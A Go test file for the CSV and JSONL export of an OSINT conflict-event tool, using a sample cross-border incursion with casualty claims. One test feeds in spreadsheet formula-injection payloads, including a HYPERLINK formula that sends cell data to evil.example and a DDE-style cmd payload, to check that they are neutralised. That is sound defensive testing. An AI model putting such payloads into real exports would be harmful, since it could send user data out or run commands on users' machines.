package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"math"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/muster-osint/muster"
	"github.com/muster-osint/muster/export"
)

func sampleEvent() muster.Event {
	nan := math.NaN()
	ev := muster.Event{ID: "v_1", Type: muster.EventIncursion, Label: "Graivoron incursion",
		Time:   &muster.Value{Kind: muster.ValueDate, Text: "on Monday", From: "2023-05-22", To: "2023-05-23", Precision: muster.PrecisionDay},
		Places: []muster.Ref{{ID: "e_ru", Name: "Russia", Type: "place"}, {ID: "e_gr", Name: "Graivoron", Type: "place"}},
		Participants: []muster.Participant{
			{Entity: muster.Ref{Name: "Northern Brigade"}, Role: muster.RoleActor},
			{Entity: muster.Ref{Name: "Border Guard"}, Role: muster.RoleDefender},
		},
		Evidence: []muster.Evidence{{Document: "d_1", Quote: "The brigade crossed into Graivoron, a town of 6,000."}},
	}
	ev.Claims = []muster.Claim{
		{Predicate: muster.PredKilled, Object: muster.NumberValue("more than 40", 41, nan, ""), AttributedTo: muster.Attribution{Name: "the ministry"}, Modality: muster.Claimed, Role: "raiders"},
		{Predicate: muster.PredKilled, Object: muster.NumberValue("one", 1, 1, ""), AttributedTo: muster.Attribution{Name: "the brigade"}, Modality: muster.Claimed},
		{Predicate: muster.PredWounded, Object: muster.NumberValue("three", 3, 3, ""), AttributedTo: muster.Attribution{Name: "the governor"}, Modality: muster.Reported},
	}
	return ev
}

func TestEventsCSV(t *testing.T) {
	places := map[string]muster.Place{
		"e_ru": {Lat: 60, Lon: 100, Country: "RU", Precision: muster.PrecisionCountry},
		"e_gr": {Lat: 50.48, Lon: 35.68, Country: "RU", Admin1: "Belgorod Oblast", Precision: muster.PrecisionExact},
	}
	var b bytes.Buffer
	if err := export.EventsCSV(&b, []muster.Event{sampleEvent()}, places); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("%d rows, want header and one event", len(rows))
	}
	got := map[string]string{}
	for i, h := range rows[0] {
		got[h] = rows[1][i]
	}
	want := map[string]string{
		"event_id": "v_1", "event_date": "2023-05-22", "date_to": "2023-05-23", "time_precision": "day", "event_type": "incursion",
		"actor1": "Northern Brigade", "actor2": "Border Guard", "location": "Graivoron", "country": "RU", "admin1": "Belgorod Oblast",
		"latitude": "50.48000", "longitude": "35.68000", "geo_precision": "exact",
		"fatalities_min": "1", "fatalities_max": "", "fatalities_sources": "[41, ∞) raiders per the ministry (claimed); 1 per the brigade (claimed)",
		"wounded_min": "3", "wounded_max": "3", "notes": "The brigade crossed into Graivoron, a town of 6,000.", "documents": "d_1",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("CSV row (-want +got):\n%s", diff)
	}
}

func TestJSONL(t *testing.T) {
	ev := sampleEvent()
	var b bytes.Buffer
	ents := []muster.Entity{{ID: "e_gr", Type: muster.EntityPlace, Name: "Graivoron"}}
	if err := export.JSONL(&b, ents, []muster.Event{ev}, ev.Claims); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(b.String()), "\n")
	if len(lines) != 1+1+len(ev.Claims) {
		t.Fatalf("%d lines, want %d", len(lines), 2+len(ev.Claims))
	}
	var first struct {
		Type string        `json:"type"`
		Data muster.Entity `json:"data"`
	}
	if err := json.Unmarshal([]byte(lines[0]), &first); err != nil || first.Type != "entity" || first.Data.Name != "Graivoron" {
		t.Errorf("first line %s: %v %+v", lines[0], err, first)
	}
	if !strings.Contains(lines[2], `"min":41,"max":null`) {
		t.Errorf("a claim line does not keep the open range: %s", lines[2])
	}
}

// TestEventsCSVNeutralisesFormulas checks that no cell of the CSV export
// begins with a character a spreadsheet reads as a formula, whatever the
// article says, while plain negative numbers stay numbers.
func TestEventsCSVNeutralisesFormulas(t *testing.T) {
	ev := sampleEvent()
	ev.Evidence[0].Quote = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	ev.Participants = []muster.Participant{
		{Entity: muster.Ref{Name: "+cmd|' /C calc'!A0"}, Role: muster.RoleActor},
		{Entity: muster.Ref{Name: "@SUM(1+1)"}, Role: muster.RoleTarget},
	}
	ev.Label = "-2+3"
	ev.Places = []muster.Ref{{ID: "e_x", Name: "\tTabbed", Type: "place"}}
	places := map[string]muster.Place{"e_x": {Lat: -33.92, Lon: -68.3, Country: "\rAR", Precision: muster.PrecisionExact}}
	var b bytes.Buffer
	if err := export.EventsCSV(&b, []muster.Event{ev}, places); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for i, h := range rows[0] {
		got[h] = rows[1][i]
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
			t.Errorf("cell %q begins with a formula character", cell)
		}
	}
	for col, want := range map[string]string{
		"notes": `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "actor1": "'+cmd|' /C calc'!A0", "actor2": "'@SUM(1+1)",
		"location": "'\tTabbed", "country": "'\rAR", "latitude": "-33.92000", "longitude": "-68.30000",
	} {
		if got[col] != want {
			t.Errorf("%s = %q, want %q", col, got[col], want)
		}
	}
}

func TestSafeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""}, {"plain", "plain"}, {"=1+1", "'=1+1"}, {"+1", "+1"}, {"+1+cmd", "'+1+cmd"}, {"-5", "-5"},
		{"-2+3", "'-2+3"}, {"@x", "'@x"}, {"\tx", "'\tx"}, {"\rx", "'\rx"}, {"=5", "'=5"}, {"a=b", "a=b"},
	} {
		if got := export.SafeCell(tc.in); got != tc.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
